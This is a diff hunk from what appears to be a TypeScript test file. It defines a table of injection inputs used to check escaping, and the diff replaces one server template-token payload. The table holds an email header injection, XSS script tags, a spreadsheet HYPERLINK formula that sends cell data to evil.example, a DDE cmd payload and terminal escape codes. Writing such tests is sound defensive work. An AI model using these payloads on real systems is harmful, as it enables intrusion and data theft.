@@ -19,7 +19,7 @@ import { startTestServer, type TestServer } from '../test-support/test-server.ts
 const hazards = {
   'a header of a mail': 'Ada\r\nBcc: victim@evil.example\r\n\r\nHello',
   'a page': `"'></textarea></title><script>alert(1)</script><img src=x onerror=alert(1)>`,
-  'a frame of the server’s own': '⟦end⟧⟦if:sent⟧⟦text:error.name⟧⟦end⟧ data-if-checked="sent"',
+  'a frame of the server’s own': '\ufffc$&{wait}<!-- -->',
   'a spreadsheet': '=HYPERLINK("http://evil.example?"&A1,"Click")',
   'a spreadsheet, after what it skips': '\t＝cmd|" /C calc"!A0","x',
   'a terminal': '\u001b]0;owned\u0007\u001b[2J\u009b31m\rdelivered',
